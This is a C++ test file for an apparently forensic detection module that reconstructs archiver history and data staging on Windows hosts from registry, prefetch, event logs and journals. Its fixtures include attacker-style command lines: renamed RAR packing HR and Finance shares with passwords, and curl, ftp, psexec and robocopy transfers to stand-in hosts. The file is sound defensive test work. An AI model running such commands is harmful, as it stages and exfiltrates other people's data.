// What archivers remember, and the story of what was packed.
#include <gmock/gmock.h>

#include <chrono>

#include "tests/builders/prefetch_builder.h"
#include "tests/modules/packing_cases.h"

namespace hozen {
namespace modules {
extern const ModuleSpec event_logs, muicache, powershell_history, prefetch, run_mru, winrar;
}  // namespace modules
namespace {

using fake::at;
using ::testing::Contains;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;
using ::testing::SizeIs;

constexpr std::uint64_t kMiB = 1U << 20U;

// ---- the registry

fake::Data texts(std::u16string_view joined) {
  std::vector<std::byte> bytes;
  for (const char16_t unit : joined) {
    bytes.push_back(static_cast<std::byte>(unit & 0xFFU));
    bytes.push_back(static_cast<std::byte>(unit >> 8U));
  }
  return fake::binary(std::move(bytes));
}

class WinRarHistory : public testing::Test {
 protected:
  WinRarHistory() { windows.user("eve"); }
  std::vector<const fake::Record*> history() {
    run = run_module(modules::winrar, windows);
    return records_of(run, "archiver_history");
  }
  fake::FakeWindows windows;
  ModuleRun run;
  const std::string root = "HKU\\eve\\Software\\WinRAR";
};

TEST_F(WinRarHistory, TellsArchivesAndNamesInTheirOrder) {
  windows.value(root + "\\ArcHistory", "0", fake::sz("C:\\PerfLogs\\1.rar"), at(5));
  windows.value(root + "\\ArcHistory", "1", fake::sz("C:\\old.zip"), at(5));
  windows.value(root + "\\DialogEditHistory\\ArcName", "0", fake::sz("1.rar"), at(6));
  windows.value(root + "\\DialogEditHistory\\ExtrPath", "0", fake::sz("C:\\T"), at(7));
  windows.value("HKU\\eve\\Software\\WinRAR SFX", "C%%T", fake::sz("C:\\T"), at(8));
  EXPECT_THAT(history(), SizeIs(5));
  const auto* newest = run.context->record({{"entry", "C:\\PerfLogs\\1.rar"}});
  ASSERT_NE(newest, nullptr);
  EXPECT_EQ((*newest)["program"], "WinRAR");
  EXPECT_EQ((*newest)["list"], "ArcHistory");
  EXPECT_EQ((*newest)["proves"], "archive_opened");
  EXPECT_EQ((*newest)["position"], "0");
  EXPECT_EQ((*newest)["deleted"], "false");
  EXPECT_EQ(newest->user_name, "eve");
  EXPECT_EQ(time_of(*newest, "used"), at(5));
  const auto* older = run.context->record({{"entry", "C:\\old.zip"}});
  ASSERT_NE(older, nullptr);
  EXPECT_FALSE(time_of(*older, "used").is_set());
  EXPECT_EQ(time_of(*older, "key_last_written"), at(5));
  EXPECT_EQ((*run.context->record({{"list", "DialogEditHistory\\ExtrPath"}}))["proves"],
            "folder_given");
  run.context->stated.settle();
  const auto facts = run.context->stated.facts(FactKind::archive_trace);
  ASSERT_EQ(facts.size(), 3U);
  EXPECT_EQ(facts.back().subject, "1.rar");
  EXPECT_EQ(facts.back().values["source"], "winrar");
  EXPECT_EQ(facts.back().values["user"], "eve");
  EXPECT_EQ(facts.back().values["order"], "0");
  EXPECT_EQ(facts.back().time, at(6));
}

TEST_F(WinRarHistory, TellsListsOfSevenZip) {
  const std::string zip = "HKU\\eve\\Software\\7-Zip\\";
  windows.value(zip + "Compression", "ArcHistory",
                texts(std::u16string_view{u"C:\\a.7z\0C:\\\u8CC7.7z\0", 16}), at(5));
  windows.value(zip + "Extraction", "PathHistory", texts(std::u16string_view{u"C:\\T\\\0", 6}));
  windows.value(zip + "FM", "FolderHistory", texts(u"C:\\U\\"));  // no NUL at its end
  windows.value(zip + "FM", "PanelPath0", fake::sz("C:\\P\\"));
  windows.value(zip + "FM", "ListMode", fake::dword(1));
  const auto found = history();
  ASSERT_EQ(found.size(), 4U);
  EXPECT_EQ((*found[0])["entry"], "C:\\a.7z");
  EXPECT_EQ((*found[0])["list"], "Compression\\ArcHistory");
  EXPECT_EQ(time_of(*found[0], "used"), at(5));
  EXPECT_EQ((*found[1])["entry"], "C:\\\xE8\xB3\x87.7z");
  EXPECT_EQ((*found[1])["position"], "1");
  EXPECT_EQ((*found[2])["proves"], "folder_given");
  EXPECT_EQ((*found[3])["entry"], "C:\\U\\");
  EXPECT_THAT(records_of(run, "archiver_setting"), SizeIs(1));
}

TEST_F(WinRarHistory, SettingsNeverTellPasswords) {
  windows.value(root + "\\Profiles\\3", "Name", fake::sz("take"));
  windows.value(root + "\\Profiles\\3", "PasswordData", fake::sz("S3cr#t"));
  windows.value(root + "\\Profiles\\3", "CmdSwitches", fake::sz("-s -hpS3cr#t"));
  windows.value(root + "\\Profiles\\3", "Method", fake::dword(3));          // as always
  windows.value(root + "\\Profiles\\3", "WipeIfPassword", fake::dword(1));  // a choice
  windows.value(root + "\\Profiles\\3", "VolumeSize", fake::dword(0));
  windows.value(root + "\\Profiles\\4", "PasswordData", fake::binary({std::byte{0}}));
  windows.value(root + "\\Passwords", "1", fake::binary({std::byte{0x53}}));
  windows.value(root + "\\General", "LastFolder", fake::sz("C:\\HR"));
  windows.value("HKLM\\SOFTWARE\\WinRAR", "exe64",
                fake::sz("C:\\Program Files\\WinRAR\\WinRAR.exe"));
  EXPECT_THAT(history(), IsEmpty());
  EXPECT_THAT(records_of(run, "archiver_setting"), SizeIs(6));
  const auto* secret = run.context->record({{"name", "PasswordData"}});
  ASSERT_NE(secret, nullptr);
  EXPECT_EQ((*secret)["key"], "Profiles\\3");
  EXPECT_EQ((*secret)["is_secret"], "true");
  EXPECT_EQ(secret->json_of("value"), "null");
  for (const auto& record : run.context->records)
    EXPECT_THAT(record.json, Not(HasSubstr("S3cr#t")));
  EXPECT_EQ((*run.context->record({{"name", "1"}}))["is_secret"], "true");
  EXPECT_NE(run.context->record({{"name", "exe64"}}), nullptr);
  EXPECT_THAT(run.context->findings, IsEmpty());
}

TEST_F(WinRarHistory, FindsEntriesThatWereDeleted) {
  windows.value(root + "\\ArcHistory", "0", fake::sz("C:\\kept.rar"));
  windows.deleted_value(root + "\\ArcHistory", "1", fake::sz("C:\\PerfLogs\\gone.rar"));
  history();
  const auto* gone = run.context->record({{"entry", "C:\\PerfLogs\\gone.rar"}});
  ASSERT_NE(gone, nullptr);
  EXPECT_EQ((*gone)["deleted"], "true");
  EXPECT_EQ(gone->user_name, "eve");
}

TEST_F(WinRarHistory, AProgramOfWinRarInATemporaryFolderIsToldLow) {
  windows.value(root + "\\Viewer", "ExternalViewer", fake::sz("\"C:\\Users\\Public\\v.exe\" %1"));
  windows.value(root + "\\VirusScan", "Name", fake::sz("C:\\Program Files\\AV\\scan.exe"));
  history();
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_EQ(run.context->findings[0].rule, "winrar.external_program");
  EXPECT_EQ(run.context->findings[0].subject, "C:\\Users\\Public\\v.exe");
  EXPECT_EQ(severity_of(run.context->findings[0]), Severity::low);
}

// ---- the story

/// A user renames rar.exe, packs three folders with -hp and -v, deletes two volumes, uploads one.
class BuiltCase : public testing::Test {
 protected:
  static constexpr const char* kFolder = "C:\\PerfLogs\\";
  BuiltCase() {
    windows.user("eve");
    windows.value("HKU\\eve_Classes\\Local Settings\\Software\\Microsoft\\Windows\\Shell\\MuiCache",
                  "C:\\PerfLogs\\svch.exe.FriendlyAppName", fake::sz("Command line RAR"));
    builders::PrefetchBuilder prefetch{30};
    prefetch.program("\\VOLUME{01d5}\\PERFLOGS\\SVCH.EXE", "SVCH.EXE")
        .file("\\VOLUME{01d5}\\PERFLOGS\\1.PART1.RAR")
        .run(time(1));
    windows.file("C:\\Windows\\Prefetch\\SVCH.EXE-11111111.pf", "").bytes = prefetch.bytes();
    builders::EvtxBuilder log;
    log.event(text_event("Security", 4688, 0,
                         {{"SubjectUserName", "eve"},
                          {"SubjectDomainName", "PC"},
                          {"NewProcessName", "C:\\PerfLogs\\svch.exe"},
                          {"CommandLine",
                           "svch.exe a -r -hpS3cr#t -v100m -m5 C:\\PerfLogs\\1.rar C:\\HR "
                           "\\\\srv\\c$\\Finance D:\\Plans"}}))
        .event(text_event(
            "Security", 4688, 3600,
            {{"SubjectUserName", "eve"},
             {"SubjectDomainName", "PC"},
             {"NewProcessName", "C:\\Windows\\System32\\curl.exe"},
             {"CommandLine", "curl -k -T C:\\PerfLogs\\1.part3.rar https://h.example"}}));
    windows.file("C:\\Windows\\System32\\winevt\\Logs\\Security.evtx", "").bytes = log.bytes();
  }
  static FileTime time(std::int64_t seconds) {
    return FileTime{133'000'000'000'000'000 +
                    static_cast<std::uint64_t>(seconds) * kTicksPerSecond};
  }
  static std::string volume(std::int64_t number) {
    return kFolder + std::string{"1.part"} + std::to_string(number) + ".rar";
  }

  /// `with_journal`: false as on a host whose journal is gone.
  void judge(bool with_journal = true) {
    run = {windows.machine(), nullptr};
    run.context = std::make_unique<fake::Context>(run.machine);
    for (const ModuleSpec* module :
         {&modules::event_logs, &modules::muicache, &modules::prefetch, &modules::winrar})
      EXPECT_TRUE(module->run(*run.context));
    FactStore& facts = run.context->stated;
    for (std::int64_t i = 1; with_journal && i <= 4; ++i)
      facts.add(
          usn_fact("created", time(i * 10), volume(i), {{"closed", time(i * 10 + 9).iso8601()}}));
    for (std::int64_t i = 1; with_journal && i <= 2; ++i)
      facts.add(
          usn_fact("deleted", time(7200 + i), volume(i), {{"created", time(i * 10).iso8601()}}));
    for (std::int64_t i = 3; i <= 4; ++i)
      facts.add(archive_fact(
          time(i * 10), volume(i), i == 3 ? 100 * kMiB : 5 * kMiB,
          {{"encrypted", "headers"}, {"volume", "1"}, {"volume_number", std::to_string(i - 1)}}));
    facts.settle();
    EXPECT_TRUE(modules::winrar.judge(*run.context));
  }
  const Finding& only() {
    EXPECT_EQ(run.context->findings.size(), 1U) << fake::summary_of(run.context->findings);
    return run.context->findings.at(0);
  }

  fake::FakeWindows windows;
  ModuleRun run;
};

TEST_F(BuiltCase, OneFindingTellsTheWholeStory) {
  judge();
  const Finding& finding = only();
  EXPECT_EQ(finding.rule, "winrar.staging");
  EXPECT_EQ(severity_of(finding), Severity::critical);
  const std::string story = story_of(finding);
  // By whom, from where, into what.
  EXPECT_THAT(
      story,
      HasSubstr("PC\\eve gave the command to pack C:\\HR, \\\\srv\\c$\\Finance, D:\\Plans into "
                "C:\\PerfLogs\\1.rar at " +
                time(0).iso8601()));
  EXPECT_THAT(story, HasSubstr("It packs files of another host: \\\\srv\\c$\\Finance."));
  // With what.
  EXPECT_THAT(story, HasSubstr("C:\\PerfLogs\\svch.exe is RAR by its version resource"));
  EXPECT_THAT(story,
              HasSubstr("SVCH.EXE ran at " + time(1).iso8601() + " (prefetch, 1 runs in all)"));
  EXPECT_THAT(story, HasSubstr("SVCH.EXE read or wrote \\VOLUME{01d5}\\PERFLOGS\\1.PART1.RAR"));
  // How.
  EXPECT_THAT(story, HasSubstr("encrypts the names in the archive"));
  EXPECT_THAT(story, HasSubstr("volumes of 104857600 bytes"));
  EXPECT_THAT(story, HasSubstr("has encrypted names"));
  // What there is, what is gone.
  EXPECT_THAT(story, HasSubstr("It has 4 volumes; there are 1.part3.rar (104857600 bytes), "
                               "1.part4.rar (5242880 bytes), 110100480 bytes in all"));
  EXPECT_THAT(story, HasSubstr("1.part1.rar, made at " + time(10).iso8601() + ", deleted at " +
                               time(7201).iso8601()));
  EXPECT_THAT(story, HasSubstr("1.part2.rar, made at " + time(20).iso8601()));
  // What became of it.
  EXPECT_THAT(
      story, HasSubstr("A command was given that sends it away with curl to https://h.example at " +
                       time(3600).iso8601() + " by PC\\eve"));
  // When.
  EXPECT_THAT(story, HasSubstr("The evidence of it is of " + time(0).iso8601() + " to " +
                               time(49).iso8601() + "."));
  EXPECT_THAT(all_of(finding), Not(HasSubstr("S3cr#t")));
  for (const char* technique : {"T1560.001", "T1074.001", "T1036.003", "T1070.004", "T1041"})
    EXPECT_THAT(finding.attack, Contains(technique));
  EXPECT_THAT(finding.why, SizeIs(::testing::Ge(10U)));
}

TEST_F(BuiltCase, WithoutTheJournalVolumesAreMissingByTheirNumbers) {
  judge(false);
  const Finding& finding = only();
  EXPECT_THAT(story_of(finding), HasSubstr("these numbers are missing: 1, 2"));
  EXPECT_THAT(story_of(finding), Not(HasSubstr("eleted within")));
  EXPECT_THAT(finding.not_checked, Contains(HasSubstr("no change journal was read")));
}

TEST_F(BuiltCase, WithoutAnyCommandTheVolumesAndTheProgramTellIt) {
  windows.file("C:\\Windows\\System32\\winevt\\Logs\\Security.evtx", "").bytes =
      builders::EvtxBuilder{}.bytes();
  judge();
  const Finding& finding = only();
  EXPECT_GE(severity_of(finding), Severity::high);
  EXPECT_THAT(story_of(finding), HasSubstr("is RAR by its version resource"));
  EXPECT_THAT(finding.not_checked, Contains(HasSubstr("Whether it left this host")));
}

// ---- what counts

ModuleRun judge_winrar(std::vector<Fact> facts) {
  return judge_facts(modules::winrar, std::move(facts));
}

TEST(WinRarStaging, ARenamedArchiverIsKnownByItsArgumentsAlone) {
  const auto run = judge_winrar(
      {process_fact(at(0), "C:\\T\\u.exe", "u.exe a -hpS3cr#t C:\\Users\\Public\\a.dat C:\\HR")});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  const Finding& finding = run.context->findings[0];
  EXPECT_GE(severity_of(finding), Severity::high);
  EXPECT_THAT(story_of(finding), HasSubstr("is called like none"));
  EXPECT_THAT(all_of(finding), Not(HasSubstr("S3cr#t")));
  EXPECT_THAT(finding.not_checked, Contains(HasSubstr("The archive itself: it was not found")));
}

TEST(WinRarStaging, OneActThatSeveralLogsTellIsOneFinding) {
  const std::string line = "rar a -hpX -v10m C:\\PerfLogs\\1.rar \\\\srv\\c$\\HR";
  const auto run = judge_winrar(
      {process_fact(at(0), "C:\\Windows\\System32\\cmd.exe", "cmd /c \"" + line + "\""),
       process_fact(at(1), "C:\\T\\rar.exe", line),
       hand_made(FactKind::script, at(2), "", "script-1", {{"ScriptBlockText", line}}),
       process_fact(at(600), "C:\\T\\rar.exe", "rar a -hpX C:\\PerfLogs\\2.rar C:\\Finance")});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  const std::string story = story_of(run.context->findings[0]);
  EXPECT_THAT(run.context->findings[0].title, HasSubstr("2 archives"));
  EXPECT_EQ(story.find("to pack \\\\srv\\c$\\HR"), story.rfind("to pack \\\\srv\\c$\\HR"));
}

TEST(WinRarStaging, ActsFarApartAreTwoFindings) {
  const auto run = judge_winrar(
      {process_fact(at(0), "C:\\T\\rar.exe", "rar a -hpX C:\\PerfLogs\\1.rar C:\\HR"),
       process_fact(at(90'000), "C:\\T\\rar.exe", "rar a -hpX C:\\PerfLogs\\2.rar C:\\HR")});
  EXPECT_THAT(run.context->findings, SizeIs(2));
}

TEST(WinRarStaging, VolumesInTheJournalAlone) {
  std::vector<Fact> facts;
  for (int i = 1; i <= 3; ++i) {
    const std::string path = "C:\\$Recycle.Bin\\d.part" + std::to_string(i) + ".rar";
    facts.push_back(usn_fact("created", at(i), path));
    facts.push_back(usn_fact("deleted", at(500 + i), path, {{"created", at(i).iso8601()}}));
  }
  const auto run = judge_winrar(std::move(facts));
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_GE(severity_of(run.context->findings[0]), Severity::high);
  EXPECT_THAT(story_of(run.context->findings[0]), HasSubstr("nothing of it is there any more"));
}

TEST(WinRarStaging, AnArchiveThatGotTheNameOfAPicture) {
  const auto run = judge_winrar({usn_fact("created", at(0), "C:\\Users\\eve\\Pictures\\a.rar"),
                                 usn_fact("renamed", at(60), "C:\\Users\\eve\\Pictures\\a.jpg",
                                          {{"from", "C:\\Users\\eve\\Pictures\\a.rar"}}),
                                 archive_fact(at(0), "C:\\Users\\eve\\Pictures\\a.jpg", 5 * kMiB,
                                              {{"extension", "lies"}, {"encrypted", "headers"}})});
  ASSERT_FALSE(run.context->findings.empty());
  EXPECT_GE(highest(run), Severity::medium);
  EXPECT_THAT(story_of(run.context->findings[0]),
              HasSubstr("under the extension of something else"));
}

TEST(WinRarStaging, ACommandWithoutAFolderIsThatOfTheArchiveOfItsName) {
  const auto run = judge_winrar({process_fact(at(0), "C:\\T\\rar.exe", "rar a -hpX 1.rar C:\\HR"),
                                 usn_fact("created", at(3), "C:\\PerfLogs\\1.rar"),
                                 process_fact(at(9), "C:\\T\\rar.exe", "rar a -hpX 2.rar C:\\HR",
                                              {{"CurrentDirectory", "C:\\PerfLogs\\"}})});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_THAT(story_of(run.context->findings[0]), HasSubstr("The archive was in PerfLogs"));
}

TEST(WinRarStaging, WhatSysmonSawOfFilesIsReadToo) {
  std::vector<Fact> facts;
  for (int i = 1; i <= 2; ++i) {
    Fact made =
        hand_made(FactKind::file, at(i), "C:\\PerfLogs\\1.part" + std::to_string(i) + ".rar",
                  "sysmon-" + std::to_string(i), {{"Image", "C:\\T\\svch.exe"}});
    made.event_id = 11;
    facts.push_back(std::move(made));
  }
  Fact gone = hand_made(FactKind::file, at(90), "C:\\PerfLogs\\1.part1.rar", "sysmon-3", {});
  gone.event_id = 23;
  facts.push_back(std::move(gone));
  facts.push_back(hand_made(FactKind::presence, {}, "C:\\T\\svch.exe", "amcache-1",
                            {{"OriginalFileName", "Rar.exe"}}));
  const auto run = judge_winrar(std::move(facts));
  ASSERT_THAT(run.context->findings, SizeIs(1));
  const std::string story = story_of(run.context->findings[0]);
  EXPECT_THAT(story, HasSubstr("was written by C:\\T\\svch.exe at " + at(1).iso8601()));
  EXPECT_THAT(story, HasSubstr("C:\\T\\svch.exe is RAR by its version resource"));
  EXPECT_THAT(story, HasSubstr("1.part1.rar, made at " + at(1).iso8601() + ", deleted at " +
                               at(90).iso8601()));
}

TEST(WinRarStaging, BatchesOfFtpByTheSameUserMayHaveSentIt) {
  const auto run = judge_winrar(
      {process_fact(at(0), "C:\\T\\rar.exe", "rar a -hpX C:\\PerfLogs\\1.rar C:\\HR"),
       process_fact(at(600), "C:\\Windows\\System32\\ftp.exe", "ftp -s:C:\\T\\s.txt 192.0.2.1"),
       process_fact(at(200'000), "C:\\Windows\\System32\\curl.exe",
                    "curl -T C:\\PerfLogs\\1.rar https://late.example")});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_THAT(story_of(run.context->findings[0]),
              HasSubstr("A command was given that may send it away with ftp"));
  EXPECT_THAT(story_of(run.context->findings[0]), Not(HasSubstr("late.example")));
}

TEST(WinRarStaging, WhatUsersTypedIsReadToo) {
  fake::FakeWindows windows;
  windows.user("eve");
  windows.value("HKU\\eve\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU", "a",
                fake::sz("C:\\T\\z.exe a -hpS3cr#t C:\\PerfLogs\\1.rar C:\\HR\\1"));
  windows.file(
      "C:\\Users\\eve\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\"
      "ConsoleHost_history.txt",
      "dir\n.\\q.exe a -hpS3cr#t -v5m C:\\ProgramData\\2.rar D:\\Plans\n");
  const auto run =
      run_and_judge({&modules::run_mru, &modules::powershell_history, &modules::winrar}, windows);
  std::string all;
  for (const Finding& finding : run.context->findings) all += all_of(finding);
  EXPECT_THAT(all, HasSubstr("(the Run dialog)"));
  EXPECT_THAT(all, HasSubstr("(PowerShell's history)"));
  EXPECT_THAT(all, HasSubstr("eve gave the command to pack D:\\Plans"));
  EXPECT_THAT(all, Not(HasSubstr("S3cr#t")));
}

TEST(WinRarStaging, UploadsOfOtherArchivesOfTheSameNameAreNone) {
  const auto run = judge_winrar(
      {process_fact(at(0), "C:\\T\\rar.exe", "rar a -hpX C:\\PerfLogs\\1.rar C:\\HR"),
       process_fact(at(60), "C:\\Windows\\System32\\curl.exe",
                    "curl -T D:\\Other\\1.rar https://other.example"),
       process_fact(at(90), "C:\\Windows\\System32\\curl.exe", "curl -T 1.rar https://h.example")});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_THAT(story_of(run.context->findings[0]), Not(HasSubstr("other.example")));
  EXPECT_THAT(story_of(run.context->findings[0]), HasSubstr("https://h.example"));
}

TEST(WinRarInnocent, AnArchiveThatAnInstallerLeavesInAFolderOfWindowsIsLow) {
  const auto run = judge_winrar(
      {usn_fact("created", at(0), "C:\\ProgramData\\x.7z"),
       usn_fact("deleted", at(9), "C:\\ProgramData\\x.7z", {{"created", at(0).iso8601()}})});
  EXPECT_LE(highest(run), Severity::low) << fake::summary_of(run.context->findings);
  EXPECT_THAT(run.context->findings, SizeIs(1));
}

TEST(WinRarStaging, RenamedArchiversWithoutAnActAreToldByThemselves) {
  const auto presence = [](const std::string& path) {
    return hand_made(FactKind::presence, {}, path, "amcache-1",
                     {{"source", "amcache"}, {"OriginalFileName", "rar.exe"}});
  };
  const auto run = judge_winrar({presence("C:\\Windows\\Temp\\svch.exe"),
                                 presence("C:\\Program Files\\Product\\pack.exe"),
                                 presence("C:\\Tools\\rar_x64.exe")});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_EQ(run.context->findings[0].rule, "winrar.renamed_program");
  EXPECT_EQ(run.context->findings[0].subject, "C:\\Windows\\Temp\\svch.exe");
  EXPECT_EQ(severity_of(run.context->findings[0]), Severity::medium);
}

TEST(WinRarStaging, OtherArchivesOfTheSameNameAreOtherActs) {
  constexpr std::int64_t kDay = 86'400;
  const auto run = judge_winrar(
      {process_fact(at(0), "C:\\Program Files\\7-Zip\\7z.exe", "7z a D:\\Backup\\db.7z D:\\db",
                    {{"User", "PC\\svc_backup"}}),
       process_fact(at(40 * kDay), "C:\\T\\x.exe", "x.exe a -hpX -v9m E:\\Backup\\db.rar E:\\db"),
       process_fact(at(80 * kDay), "C:\\T\\x.exe", "x.exe a -hpX -v9m C:\\PerfLogs\\1.rar E:\\db",
                    {{"User", "PC\\mallory"}}),
       process_fact(at(82 * kDay), "C:\\T\\x.exe",
                    "x.exe a -hpX -v9m C:\\PerfLogs\\1.rar E:\\db")});
  ASSERT_THAT(run.context->findings, SizeIs(3)) << fake::summary_of(run.context->findings);
  for (const Finding& finding : run.context->findings)
    EXPECT_THAT(story_of(finding), Not(HasSubstr("svc_backup")));
}

TEST(WinRarStaging, WhatTellsNoDriveIsOfTheArchiveOfItsFolder) {
  const auto run =
      judge_winrar({process_fact(at(0), "C:\\T\\rar.exe", "rar a -hpX C:\\PerfLogs\\1.rar C:\\HR"),
                    hand_made(FactKind::archive_trace, at(3), "\\VOLUME{01d5-aa}\\PERFLOGS\\1.RAR",
                              "p-1", {{"source", "prefetch"}, {"program", "RAR.EXE"}})});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_THAT(story_of(run.context->findings[0]), HasSubstr("RAR.EXE read or wrote"));
}

TEST(WinRarStaging, WhatAnotherHostPacksIsToldWithIt) {
  const auto run = judge_winrar(
      {process_fact(at(0), "C:\\T\\psexec.exe",
                    "psexec \\\\fs01 -s C:\\T\\rar.exe a -hpX C:\\PerfLogs\\1.rar C:\\HR")});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  const Finding& finding = run.context->findings[0];
  EXPECT_EQ(finding.subject, "\\\\fs01\\C$\\PerfLogs\\1.rar");
  EXPECT_THAT(finding.title, HasSubstr("on the host fs01"));
  EXPECT_THAT(story_of(finding), HasSubstr("on the host fs01"));
  EXPECT_THAT(story_of(finding), Not(HasSubstr("was started from")));
}

TEST(WinRarStaging, CopiesToASharesHostAreNoSendingAway) {
  const auto run =
      judge_winrar({process_fact(at(0), "C:\\T\\rar.exe", "rar a -hpX C:\\PerfLogs\\1.rar C:\\HR"),
                    process_fact(at(9), "C:\\Windows\\System32\\cmd.exe",
                                 "cmd /c copy C:\\PerfLogs\\1.rar \\\\nas\\b"),
                    process_fact(at(10), "C:\\Windows\\System32\\cmd.exe",
                                 "cmd /c copy C:\\PerfLogs\\1.rar \\\\localhost\\own$")});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_THAT(story_of(run.context->findings[0]), HasSubstr("copies it to another host"));
  EXPECT_THAT(story_of(run.context->findings[0]), Not(HasSubstr("own$")));
  EXPECT_THAT(run.context->findings[0].title, Not(HasSubstr("send it away")));
}

TEST(WinRarStaging, RobocopyOfAllArchivesOfAFolderIsTold) {
  const auto run =
      judge_winrar({process_fact(at(0), "C:\\T\\rar.exe", "rar a -hpX C:\\PerfLogs\\1.rar C:\\HR"),
                    process_fact(at(9), "C:\\Windows\\System32\\robocopy.exe",
                                 "robocopy C:\\PerfLogs \\\\10.9.9.9\\c$\\temp *.rar")});
  ASSERT_THAT(run.context->findings, SizeIs(1));
  EXPECT_THAT(story_of(run.context->findings[0]), HasSubstr("copies it to another host"));
}

TEST(WinRarStaging, PasswordsOfZipAreNotTold) {
  for (const char* line : {R"(cmd /c "zip -r -eP S3cr#t C:\PerfLogs\1.zip C:\HR")",
                           R"(zip -r -P "a S3cr#t" C:\PerfLogs\1.zip C:\HR)"}) {
    const auto run = judge_winrar({process_fact(at(0), "C:\\T\\zip.exe", line)});
    ASSERT_THAT(run.context->findings, SizeIs(1)) << line;
    EXPECT_THAT(all_of(run.context->findings[0]), Not(HasSubstr("S3cr#t")));
  }
}

TEST(WinRarStaging, ThousandsOfArchivesAndTransfersAreSoonHeldAgainstEachOther) {
  std::vector<Fact> facts;
  for (int i = 0; i < 3000; ++i) {
    const std::string path = "C:\\PerfLogs\\a" + std::to_string(i) + ".7z";
    facts.push_back(archive_fact(at(0), path, kMiB));
    facts.push_back(usn_fact("created", at(0), path));
  }
  std::string line = "curl";
  for (int i = 0; i < 300; ++i) line += " -T C:\\D\\" + std::to_string(i) + ".zip";
  for (int i = 0; i < 300; ++i)
    facts.push_back(process_fact(at(60 + i), "C:\\Windows\\System32\\curl.exe",
                                 line + " https://h" + std::to_string(i) + ".example/"));
  const auto begin = std::chrono::steady_clock::now();
  const auto run = judge_winrar(std::move(facts));
  EXPECT_LT(std::chrono::steady_clock::now() - begin, std::chrono::seconds{20});
  ASSERT_THAT(run.context->notes, Not(IsEmpty()));
}

// ---- innocent use

TEST(WinRarInnocent, SeveralArchivesThatOnlyLieThereAreLeftToTheModuleArchives) {
  const FactTexts place{{"place", "perf_logs"}};
  const auto run = judge_winrar({archive_fact(at(0), "C:\\PerfLogs\\1.rar", kMiB, place),
                                 archive_fact(at(9), "C:\\PerfLogs\\2.rar", kMiB, place)});
  EXPECT_THAT(run.context->findings, IsEmpty()) << fake::summary_of(run.context->findings);
}

TEST(WinRarInnocent, NightlyArchivesOfAWebServerAreARoutine) {
  std::vector<Fact> facts;
  facts.reserve(30);
  for (int day = 0; day < 30; ++day)
    facts.push_back(process_fact(at(day * kDaySeconds), "C:\\Program Files\\7-Zip\\7z.exe",
                                 "7z a -ir!*.log -sdel D:\\Archive\\iis-" + std::to_string(day) +
                                     ".7z C:\\inetpub\\logs\\LogFiles"));
  const auto run = judge_winrar(std::move(facts));
  EXPECT_LE(highest(run), Severity::low) << fake::summary_of(run.context->findings);
}

TEST(WinRarInnocent, ABackupThatIsCopiedToAStoreIsLow) {
  const auto run =
      judge_winrar({process_fact(at(0), "C:\\Program Files\\7-Zip\\7z.exe",
                                 "7z a -mhe=on -pX D:\\Backup\\db-20220618.7z D:\\SQLDump"),
                    process_fact(at(60), "C:\\Windows\\System32\\cmd.exe",
                                 "cmd /c copy D:\\Backup\\db-20220618.7z \\\\nas01\\backup")});
  EXPECT_LE(highest(run), Severity::low) << fake::summary_of(run.context->findings);
}

TEST(WinRarInnocent, VolumesThatWereFetchedOrUnpackedAreLow) {
  std::vector<Fact> facts;
  for (int i = 1; i <= 4; ++i) {
    const std::string part = std::to_string(i);
    facts.push_back(
        archive_fact(at(i), "C:\\Temp\\game.part" + part + ".rar", 100 * kMiB, {{"volume", "1"}}));
    const std::string office = "C:\\Windows\\Temp\\office.7z.00" + part;
    facts.push_back(usn_fact("created", at(i), office));
    facts.push_back(usn_fact("deleted", at(900 + i), office, {{"created", at(i).iso8601()}}));
    facts.push_back(archive_fact(at(i), "C:\\Users\\Public\\setup\\data.r0" + part, 9 * kMiB));
  }
  const auto run = judge_winrar(std::move(facts));
  EXPECT_LE(highest(run), Severity::low) << fake::summary_of(run.context->findings);
}

TEST(WinRarInnocent, ACollectorOfLogsIsNotHigh) {
  const auto pack = [](const std::string& archive, const std::string& what) {
    return judge_winrar({process_fact(at(0), "C:\\Windows\\Temp\\V\\7za.exe",
                                      "7za.exe a C:\\Windows\\Temp\\V\\" + archive + " " + what)});
  };
  EXPECT_LE(highest(pack("l.zip", "C:\\ProgramData\\V\\*.log")), Severity::low);
  EXPECT_EQ(highest(pack("l.7z", "C:\\ProgramData\\V\\*.log")), Severity::medium);
  EXPECT_GE(highest(pack("l.7z", "-mhe -pX D:\\HR\\*.docx")), Severity::high);
}

TEST(WinRarInnocent, ArchivesOfUsersAreSilent) {
  const auto run = judge_winrar(
      {process_fact(at(0), "C:\\Program Files\\WinRAR\\WinRAR.exe",
                    "\"C:\\Program Files\\WinRAR\\WinRAR.exe\" a -ep1 "
                    "C:\\Users\\eve\\Desktop\\photos.rar C:\\Users\\eve\\Pictures"),
       archive_fact(at(1), "C:\\Users\\eve\\Desktop\\photos.rar", 50 * kMiB, {{"encrypted", "no"}}),
       archive_fact(at(1), "C:\\Users\\eve\\Downloads\\game.part1.rar", 100 * kMiB,
                    {{"volume", "1"}}),
       archive_fact(at(1), "C:\\Users\\eve\\Downloads\\game.part2.rar", 100 * kMiB,
                    {{"volume", "1"}}),
       archive_fact(at(1), "C:\\Users\\eve\\AppData\\Local\\Temp\\setup.7z", 9 * kMiB),
       usn_fact("created", at(2), "C:\\Users\\eve\\Downloads\\x.zip"),
       usn_fact("deleted", at(9), "C:\\Users\\eve\\Downloads\\x.zip",
                {{"created", at(2).iso8601()}}),
       usn_fact("created", at(2), "C:\\Windows\\Temp\\a.zip"),
       usn_fact("deleted", at(9), "C:\\Windows\\Temp\\a.zip", {{"created", at(2).iso8601()}}),
       usn_fact("created", at(2), "C:\\ProgramData\\logs.zip"),
